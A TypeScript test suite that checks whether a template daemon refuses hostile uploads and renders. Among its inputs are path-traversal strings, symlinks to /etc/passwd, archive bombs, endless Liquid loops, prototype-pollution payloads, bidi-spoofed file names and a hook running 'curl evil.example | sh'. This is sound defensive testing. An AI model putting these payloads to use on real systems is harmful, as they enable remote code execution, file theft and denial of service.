/**
 * Hostile templates and requests against a running daemon: paths that leave the template
 * folder (in uploads, archives and rendered names), links and bombs in archives, render
 * loops and allocations without bound, prototype access from Liquid, and masses of
 * answers or parameters. Every refusal must be a 4xx problem with its stable code, must
 * leave the store as it was (no commit, no git object, no index row), and must leave the
 * daemon answering.
 *
 * The daemon renders in worker threads started from the build (dist/), see pool.test.ts.
 */
import {existsSync, readdirSync} from 'node:fs'
import {join} from 'node:path'
import {gunzipSync, gzipSync} from 'node:zlib'

import {describe, expect, it} from 'vitest'
import {parse, stringify} from 'yaml'

import {encodeFiles} from '../../../src/domain/wire.js'
import {RenderPool} from '../../../src/sandbox/pool.js'
import {GitStore} from '../../../src/store/index.js'
import {tempDir} from '../../helpers/temp.js'
import type {TarEntry, TestServer} from './support.js'
import {entriesOf, expectProblem, startTestServer, tarGz, templateFiles, templateUpload} from './support.js'

/** One render worker (the machine is shared) and a short time limit, so loops end quickly. */
const RENDER_ENV = {RENDER_WORKERS: '1', RENDER_TIMEOUT_MS: '2000'}

function hostileServer(opts: Parameters<typeof startTestServer>[0] = {}): Promise<TestServer> {
  return startTestServer({...opts, env: {...RENDER_ENV, ...opts.env}})
}

/** Two nested loops of 10^10 iterations: nothing but a time limit ends them. */
const ENDLESS = '{% for i in (1..100000) %}{% for j in (1..100000) %}{% endfor %}{% endfor %}'

interface StoreState {
  head: string | null
  objects: number
  index: string[]
}

/** What a refused request must leave as it was: the namespace's git history and objects, and its index. */
async function storeState(server: TestServer): Promise<StoreState> {
  const git = join(server.config.home, 'git')
  const objects = join(git, 'local.git', 'objects')
  const {items} = await server.registry.search({namespace: 'local', limit: 100})
  return {
    head: await new GitStore(git).repo('local').head(),
    objects: existsSync(objects) ? readdirSync(objects, {recursive: true}).length : 0,
    index: items.map((t) => `${t.name}@${t.version}:${t.quality_score}`),
  }
}

/**
 * Sends a request that must be refused with `status` and `code`; asserts that nothing
 * was written and that the daemon still answers /health. Returns the problem.
 */
async function expectRefused(
  server: TestServer,
  send: () => Promise<Response>,
  status: number,
  code: string,
): Promise<Record<string, unknown>> {
  const before = await storeState(server)
  const problem = await expectProblem(await send(), status, code)
  expect(await storeState(server)).toEqual(before)
  const health = await server.api('/health')
  expect(health.status, await health.clone().text()).toBe(200)
  return problem
}

const publishJson = (server: TestServer, body: unknown) => () => server.api('/api/v1/templates', {json: body})
const validateJson = (server: TestServer, body: unknown) => () =>
  server.api('/api/v1/quality/validate', {json: body})
const publishTar = (server: TestServer, body: Uint8Array) => () =>
  server.api('/api/v1/templates', {
    method: 'POST',
    headers: {'content-type': 'application/gzip'},
    body: new Uint8Array(body),
  })

/** The scaffold's manifest with `patch` applied (parameters appended, other fields replaced). */
function manifestWith(name: string, patch: {parameters?: unknown[]; [key: string]: unknown}): string {
  const manifest = parse(new TextDecoder().decode(templateFiles({name}).get('manifest.yaml'))) as {
    parameters: unknown[]
  }
  const {parameters = [], ...rest} = patch
  return stringify({...manifest, ...rest, parameters: [...manifest.parameters, ...parameters]})
}

/** Attacks the trap template carries, each in a file rendered only when `attack` names it. */
const ATTACKS: Record<string, {file: string; source: string; limit: string}> = {
  range: {file: 'range.txt', source: '{% for i in (1..100000000) %}{{ i }}{% endfor %}', limit: 'memory'},
  nested_loops: {file: 'nested.txt', source: ENDLESS, limit: 'time'},
  include_loop: {file: 'include.txt', source: '{% include "_partials/self.liquid" %}', limit: 'time'},
  render_loop: {file: 'render.txt', source: '{% render "_partials/again.liquid" %}', limit: 'time'},
  nesting: {
    file: 'deep.txt',
    source: `${'{% if true %}'.repeat(20_000)}x${'{% endif %}'.repeat(20_000)}`,
    limit: 'nesting',
  },
  multiply: {
    file: 'multiply.txt',
    source: '{% assign s = "xy" %}{% for i in (1..40) %}{% assign s = s | append: s %}{% endfor %}{{ s }}',
    limit: 'memory',
  },
  // A parameter default is Liquid too, worked out before any file is rendered.
  default_loop: {file: '', source: '', limit: 'time'},
}

/**
 * A template that is harmless with its defaults and hostile on request: `attack` switches
 * on one of ATTACKS, `dir` names a folder, `label` is a Liquid default.
 */
function trapTemplate(name = 'trap'): {files: ReturnType<typeof encodeFiles>} {
  const attacks = Object.entries(ATTACKS).filter(([, a]) => a.file !== '')
  const manifest = manifestWith(name, {
    parameters: [
      {name: 'attack', type: 'choice', choices: ['none', 'proto', ...Object.keys(ATTACKS)], default: 'none'},
      {name: 'dir', type: 'string', default: 'src'},
      {
        name: 'label',
        type: 'string',
        default: `{% if attack == "default_loop" %}${ENDLESS}{% endif %}label`,
      },
      {name: 'copies', type: 'integer', default: 1},
    ],
    files: [
      {path: 'LICENSE', when: 'include_license'},
      ...attacks.map(([attack, a]) => ({path: `attacks/${a.file}`, when: `attack == "${attack}"`})),
      {path: 'attacks/proto.txt', when: 'attack == "proto"'},
    ],
    exclude: ['_partials/**'],
  })
  const files: Record<string, string> = {
    'manifest.yaml': manifest,
    'files/{{ dir }}/main.txt': '{{ label }}',
    'files/_partials/self.liquid': '{% include "_partials/self.liquid" %}',
    'files/_partials/again.liquid': '{% render "_partials/again.liquid" %}',
    'files/attacks/proto.txt': '{{ attack.constructor.constructor }}',
  }
  for (const [, a] of attacks) files[`files/attacks/${a.file}`] = a.source
  return {files: encodeFiles(templateFiles({name, files}))}
}

const instantiate = (server: TestServer, name: string, answers: Record<string, unknown>) => () =>
  server.api(`/api/v1/templates/${name}/instantiate`, {json: {answers}})

describe('hostile uploads: paths, links and bombs', () => {
  it('refuses file maps whose paths leave the template folder, on publish and on validate', async () => {
    const server = await hostileServer()
    for (const path of [
      '../evil.txt',
      'files/../../evil.txt',
      '/etc/passwd',
      'C:/evil.txt',
      'files\\..\\..\\evil.txt',
      'files/evil\u0000.txt',
      '.git/config',
      'files/.git/hooks/post-checkout',
      'files/.GIT/config',
      'files/.git./config',
      'files/./x.txt',
    ]) {
      const body = templateUpload({files: {[path]: 'x'}})
      const problem = await expectRefused(server, publishJson(server, body), 422, 'UNSAFE_PATH')
      expect(problem.path).toBe(path)
      await expectRefused(server, validateJson(server, body), 422, 'UNSAFE_PATH')
    }
  })

  it('refuses archive entries that leave the folder, links, and special files', async () => {
    const server = await hostileServer()
    const files = entriesOf(templateFiles())
    const hostile: TarEntry[] = [
      {path: '../evil.txt', content: 'x'},
      {path: 'files/../../evil.txt', content: 'x'},
      {path: '/etc/cron.d/evil', content: 'x'},
      {path: 'files\\..\\..\\evil.txt', content: 'x'},
      {path: '.git/config', content: 'x'},
      {path: 'files/.GIT/hooks/post-checkout', content: '#!/bin/sh\n'},
      {path: 'files/link', type: 'SymbolicLink', linkpath: '/etc/passwd'},
      {path: 'files/up', type: 'SymbolicLink', linkpath: '../../..'},
      {path: 'files/hard', type: 'Link', linkpath: 'manifest.yaml'},
      {path: 'files/pipe', type: 'FIFO'},
    ]
    for (const entry of hostile) {
      const problem = await expectRefused(
        server,
        publishTar(server, tarGz([...files, entry])),
        422,
        'UNSAFE_PATH',
      )
      expect(problem.path).toBe(entry.path)
    }
    // A link placed before the files it would redirect changes nothing either.
    await expectRefused(
      server,
      publishTar(server, tarGz([{path: 'files', type: 'SymbolicLink', linkpath: '/tmp'}, ...files])),
      422,
      'UNSAFE_PATH',
    )
  })

  it('refuses archive bombs: by ratio, by entry count, by unpacked size', async () => {
    const server = await hostileServer({limits: {uploadEntries: 50}})
    const base = entriesOf(templateFiles())
    const ratio = tarGz([...base, {path: 'files/zeros.bin', content: new Uint8Array(30 * 1024 * 1024)}])
    expect(ratio.byteLength).toBeLessThan(100 * 1024)
    const bomb = await expectRefused(server, publishTar(server, ratio), 413, 'LIMIT_EXCEEDED')
    expect(bomb.detail).toContain('bomb')

    const many = Array.from({length: 60}, (_, i) => ({path: `files/f${i}.txt`, content: String(i)}))
    await expectRefused(server, publishTar(server, tarGz([...base, ...many])), 413, 'LIMIT_EXCEEDED')

    const small = await hostileServer({limits: {unpackedBytes: 256 * 1024, maxRatio: 1_000_000}})
    const big = tarGz([...base, {path: 'files/big.txt', content: 'y'.repeat(1024 * 1024)}])
    const tooBig = await expectRefused(small, publishTar(small, big), 413, 'LIMIT_EXCEEDED')
    expect(tooBig.detail).toContain('decompressed')
  })

  it('refuses a manifest that declares hooks: nothing from a template runs but Liquid, in a worker', async () => {
    const server = await hostileServer()
    const manifest = manifestWith('hooked', {hooks: {post_gen: 'curl evil.example | sh'}})
    const problem = await expectRefused(
      server,
      publishJson(server, templateUpload({name: 'hooked', files: {'manifest.yaml': manifest}})),
      422,
      'INVALID_TEMPLATE',
    )
    expect(JSON.stringify(problem.issues)).toContain('hooks')
  })
})

describe('hostile templates: rendered paths', () => {
  it('refuses to publish a template whose file names render outside the project', async () => {
    const server = await hostileServer()
    for (const path of [
      'files/{{ ".." }}/evil.txt',
      'files/{{ "..%2F..%2Fevil" | url_decode }}.txt',
      'files/{{ "%2Fetc" | url_decode }}/evil.txt',
      'files/{{ ".git" }}/config',
    ]) {
      const body = templateUpload({name: 'escaper', files: {[path]: 'x'}})
      // Rendering with its defaults fails the structure check, so the gate refuses it.
      const problem = await expectRefused(server, publishJson(server, body), 422, 'QUALITY_GATE_FAILED')
      expect(JSON.stringify(problem.report)).toMatch(/unsafe path/i)
    }
  })

  it('refuses answers that make a rendered path leave the project', async () => {
    const server = await hostileServer({env: {ENABLE_QUALITY_GATES: 'false'}})
    expect((await server.api('/api/v1/templates', {json: trapTemplate()})).status).toBe(201)
    for (const dir of ['..', '../../etc', '/etc', 'a\\..\\b', '.git', 'x/../../y', 'nul\u0000byte']) {
      const problem = await expectRefused(server, instantiate(server, 'trap', {dir}), 422, 'UNSAFE_PATH')
      expect(String(problem.detail)).toContain('rendered')
    }
    const ok = await server.api('/api/v1/templates/trap/instantiate', {json: {answers: {dir: 'app'}}})
    expect(Object.keys((await ok.json()).files)).toContain('app/main.txt')
  })
})

describe('hostile templates: render loops and allocations', () => {
  it('stops each attack with RENDER_LIMIT_EXCEEDED naming the limit, and keeps rendering', async () => {
    const server = await hostileServer({env: {ENABLE_QUALITY_GATES: 'false'}})
    expect((await server.api('/api/v1/templates', {json: trapTemplate()})).status).toBe(201)
    for (const [attack, {limit}] of Object.entries(ATTACKS)) {
      const problem = await expectRefused(
        server,
        instantiate(server, 'trap', {attack}),
        422,
        'RENDER_LIMIT_EXCEEDED',
      )
      expect(problem.limit, `${attack}: ${String(problem.detail)}`).toBe(limit)
    }
    const ok = await server.api('/api/v1/templates/trap/instantiate', {json: {answers: {attack: 'none'}}})
    expect(ok.status).toBe(200)
  })

  it('answers other requests while a render runs into its time limit', async () => {
    const server = await hostileServer({env: {ENABLE_QUALITY_GATES: 'false', RENDER_WORKERS: '2'}})
    expect((await server.api('/api/v1/templates', {json: trapTemplate()})).status).toBe(201)
    let settled = false
    const stuck = server
      .api('/api/v1/templates/trap/instantiate', {json: {answers: {attack: 'nested_loops'}}})
      .finally(() => (settled = true))
    const health = await server.api('/health')
    const list = await server.api('/api/v1/templates')
    const render = await server.api('/api/v1/templates/trap/instantiate', {json: {answers: {}}})
    expect([health.status, list.status, render.status]).toEqual([200, 200, 200])
    expect(settled).toBe(false)
    await expectProblem(await stuck, 422, 'RENDER_LIMIT_EXCEEDED')
  })

  it('answers 503 SERVER_BUSY with Retry-After when every worker is busy and the queue is full', async () => {
    const pool = new RenderPool({workers: 1, timeoutMs: 3000, maxQueue: 0})
    const server = await hostileServer({env: {ENABLE_QUALITY_GATES: 'false'}, renderHost: pool})
    expect((await server.api('/api/v1/templates', {json: trapTemplate()})).status).toBe(201)
    const stuck = server.api('/api/v1/templates/trap/instantiate', {
      json: {answers: {attack: 'nested_loops'}},
    })
    while (pool.stats.busy === 0) await new Promise((resolve) => setTimeout(resolve, 20))
    const busy = await expectRefused(server, instantiate(server, 'trap', {}), 503, 'SERVER_BUSY')
    expect(busy.retryAfter).toBe(3)
    const again = await server.api('/api/v1/templates/trap/instantiate', {json: {answers: {}}})
    expect(again.headers.get('retry-after')).toBe('3')
    await expectProblem(again, 503, 'SERVER_BUSY')
    await expectProblem(await stuck, 422, 'RENDER_LIMIT_EXCEEDED')
    expect((await server.api('/api/v1/templates/trap/instantiate', {json: {answers: {}}})).status).toBe(200)
  })

  it('refuses to publish or score a template whose quality check runs past the time limit', async () => {
    const server = await hostileServer()
    const body = templateUpload({name: 'looper', files: {'files/loop.txt': ENDLESS}})
    const problem = await expectRefused(server, publishJson(server, body), 422, 'RENDER_LIMIT_EXCEEDED')
    expect(problem).toMatchObject({limit: 'time', timeoutMs: 2000})
    await expectRefused(server, validateJson(server, body), 422, 'RENDER_LIMIT_EXCEEDED')
  })

  it('refuses to publish a template that exhausts the render heap', async () => {
    const server = await hostileServer({env: {RENDER_MAX_HEAP_MB: '32'}})
    let hog =
      '{% assign s = "abcdefghijklmnop" %}{% for i in (1..16) %}{% assign s = s | append: s %}{% endfor %}'
    for (let i = 0; i < 60; i++) hog += `{% capture c${i} %}{{ s | upcase }}{% endcapture %}`
    const body = templateUpload({name: 'hog', files: {'files/hog.txt': hog}})
    const problem = await expectRefused(server, publishJson(server, body), 422, 'RENDER_LIMIT_EXCEEDED')
    expect(problem).toMatchObject({limit: 'heap', maxHeapMb: 32})
    expect((await server.api('/api/v1/templates', {json: templateUpload({name: 'fine'})})).status).toBe(201)
  })

  it('scores a template that LiquidJS stops by itself as not rendering, and the gate refuses it', async () => {
    const server = await hostileServer()
    const body = templateUpload({name: 'ranger', files: {'files/range.txt': ATTACKS.range!.source}})
    const problem = await expectRefused(server, publishJson(server, body), 422, 'QUALITY_GATE_FAILED')
    expect(JSON.stringify(problem.report)).toContain('memory alloc limit exceeded')
  })
})

describe('hostile templates: already in git', () => {
  it('indexes a looping template found in git at start-up without a score, and starts', async () => {
    // Another writer (a git pull, a CLI on the same store) committed it behind the daemon's back.
    const home = tempDir('maestro-home-')
    const files = templateFiles({name: 'pulled', files: {'files/loop.txt': ENDLESS}})
    await new GitStore(join(home, 'git')).repo('local').commit({
      operation: 'create',
      name: 'pulled',
      version: '0.1.0',
      path: 'backend_developer/pulled',
      files,
      author: {name: 'someone', email: 'someone@example.com'},
    })
    const server = await hostileServer({env: {MAESTRO_HOME: home, RENDER_TIMEOUT_MS: '1000'}})
    const detail = await (await server.api('/api/v1/templates/pulled')).json()
    expect(detail).toMatchObject({name: 'pulled', quality_score: null})
    expect((await server.api('/health')).status).toBe(200)
  })
})

describe('hostile templates: prototype access', () => {
  it('gives a template nothing of JavaScript objects, and answers cannot pollute prototypes', async () => {
    const server = await hostileServer({env: {ENABLE_QUALITY_GATES: 'false'}})
    expect((await server.api('/api/v1/templates', {json: trapTemplate()})).status).toBe(201)
    const problem = await expectRefused(
      server,
      instantiate(server, 'trap', {attack: 'proto'}),
      422,
      'RENDER_ERROR',
    )
    expect(problem.detail).toContain('undefined variable')

    const sneaky = JSON.parse(
      '{"answers": {"dir": "app", "__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}}',
    ) as unknown
    const res = await server.api('/api/v1/templates/trap/instantiate', {json: sneaky})
    expect(res.status).toBeLessThan(500)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    expect((Object.prototype as Record<string, unknown>).polluted).toBeUndefined()
  })
})

describe('hostile requests: masses of answers and parameters, large output', () => {
  it('bounds answers, parameters and what one render may produce', async () => {
    const server = await hostileServer({
      env: {ENABLE_QUALITY_GATES: 'false'},
      limits: {renderFiles: 3, renderBytes: 64 * 1024},
    })
    expect((await server.api('/api/v1/templates', {json: templateUpload({name: 'small'})})).status).toBe(201)

    const answers = Object.fromEntries(Array.from({length: 501}, (_, i) => [`a${i}`, i]))
    await expectRefused(server, instantiate(server, 'small', answers), 400, 'VALIDATION_ERROR')
    await expectRefused(
      server,
      instantiate(server, 'small', {description: 'x'.repeat(2 * 1024 * 1024)}),
      413,
      'LIMIT_EXCEEDED',
    )

    const parameters = Array.from({length: 201}, (_, i) => ({name: `p${i}`, type: 'string', default: 'x'}))
    const crowded = templateUpload({
      name: 'crowded',
      files: {'manifest.yaml': manifestWith('crowded', {parameters})},
    })
    await expectRefused(server, publishJson(server, crowded), 422, 'INVALID_TEMPLATE')

    const wide = templateUpload({
      name: 'wide',
      files: Object.fromEntries(Array.from({length: 5}, (_, i) => [`files/f${i}.txt`, String(i)])),
    })
    expect((await server.api('/api/v1/templates', {json: wide})).status).toBe(201)
    const files = await expectRefused(server, instantiate(server, 'wide', {}), 422, 'RENDER_LIMIT_EXCEEDED')
    expect(files).toMatchObject({limit: 'files', maxFiles: 3})

    const loud = templateUpload({
      name: 'loud',
      files: {'files/big.txt': '{% for i in (1..20000) %}0123456789{% endfor %}'},
    })
    expect((await server.api('/api/v1/templates', {json: loud})).status).toBe(201)
    const bytes = await expectRefused(server, instantiate(server, 'loud', {}), 422, 'RENDER_LIMIT_EXCEEDED')
    expect(bytes).toMatchObject({limit: 'bytes', maxBytes: 64 * 1024})
  })
})

/** A .tar.gz of one template whose entry `raw` has a name made of these bytes (not necessarily UTF-8). */
function tarWithRawName(name: string, raw: Buffer): Buffer {
  const gz = tarGz([...entriesOf(templateFiles({name})), {path: 'files/PLACEHOLDER', content: 'x'}])
  const tar = gunzipSync(gz)
  // Find the placeholder's header, write the raw name, and recompute the header checksum.
  const at = tar.indexOf('files/PLACEHOLDER')
  tar.fill(0, at, at + 100)
  raw.copy(tar, at)
  tar.fill(0x20, at + 148, at + 156)
  let sum = 0
  for (let i = at; i < at + 512; i++) sum += tar[i]!
  tar.write(`${sum.toString(8).padStart(6, '0')}\0 `, at + 148, 'latin1')
  return gzipSync(tar)
}

describe('hostile templates: names that collide or mislead on other systems', () => {
  const withFiles = (name: string, extra: Record<string, string>) => {
    const files = templateFiles({name})
    for (const [path, content] of Object.entries(extra)) files.set(path, new TextEncoder().encode(content))
    return files
  }
  const PAIRS: [string, string, string][] = [
    ['case', 'files/README.md', 'files/readme.md'],
    ['normalisation', 'files/caf\u00e9.txt', 'files/cafe\u0301.txt'],
    ['folder case', 'files/Docs/a.md', 'files/docs/b.md'],
  ]

  it('refuses a template holding two names that are one file on macOS or Windows, naming the pair', async () => {
    const server = await hostileServer()
    for (const [kind, first, second] of PAIRS) {
      const files = withFiles(`collide-${kind.replace(' ', '-')}`, {[first]: '1', [second]: '2'})
      for (const send of [
        publishJson(server, {files: encodeFiles(files)}),
        publishTar(server, tarGz(entriesOf(files))),
        validateJson(server, {files: encodeFiles(files)}),
      ]) {
        const problem = await expectRefused(server, send, 422, 'NAME_COLLISION')
        const pair = (problem.paths as string[]).map((p) => p.normalize('NFC').toLowerCase())
        expect(pair[0], kind).toBe(pair[1])
        for (const path of problem.paths as string[])
          expect(problem.detail, kind).toContain(JSON.stringify(path))
      }
    }
  })

  it('refuses names that are not UTF-8 or hold bidirectional controls, with 422 UNSAFE_PATH', async () => {
    const server = await hostileServer()
    const badUtf8 = tarWithRawName(
      'bad-utf8',
      Buffer.from([...Buffer.from('files/'), 0xff, 0xfe, 0x2e, 0x74]),
    )
    const problem = await expectRefused(server, publishTar(server, badUtf8), 422, 'UNSAFE_PATH')
    expect(problem.detail).toMatch(/not valid UTF-8/)
    // A lone surrogate can only come through JSON.
    const lone = encodeFiles(withFiles('lone-surrogate', {'files/x\ud800.txt': 'x'}))
    expect(await expectRefused(server, publishJson(server, {files: lone}), 422, 'UNSAFE_PATH')).toMatchObject(
      {
        detail: expect.stringMatching(/not valid UTF-8/),
      },
    )
    for (const control of ['\u202a', '\u202e', '\u2066', '\u2069']) {
      const files = withFiles('bidi', {[`files/invoice${control}fdp.exe`]: 'x'})
      const refused = await expectRefused(
        server,
        publishJson(server, {files: encodeFiles(files)}),
        422,
        'UNSAFE_PATH',
      )
      expect(refused.detail).toMatch(/bidirectional control character U\+20[26]/)
    }
  })

  it('refuses to render two paths that collide case-insensitively', async () => {
    const server = await hostileServer()
    const files = withFiles('renders-twice', {'files/{{ first }}.md': 'a', 'files/{{ second }}.md': 'b'})
    files.set(
      'manifest.yaml',
      new TextEncoder().encode(
        manifestWith('renders-twice', {
          parameters: [
            {name: 'first', type: 'string', default: 'notes'},
            {name: 'second', type: 'string', default: 'other'},
          ],
        }),
      ),
    )
    expect((await server.api('/api/v1/templates', {json: {files: encodeFiles(files)}})).status).toBe(201)
    const problem = await expectRefused(
      server,
      instantiate(server, 'renders-twice', {first: 'Notes', second: 'NOTES'}),
      422,
      'NAME_COLLISION',
    )
    expect(problem.paths).toEqual(['Notes.md', 'NOTES.md'])
    // Different names still render.
    const fine = await instantiate(server, 'renders-twice', {first: 'a', second: 'b'})()
    expect(fine.status).toBe(200)
  })
})
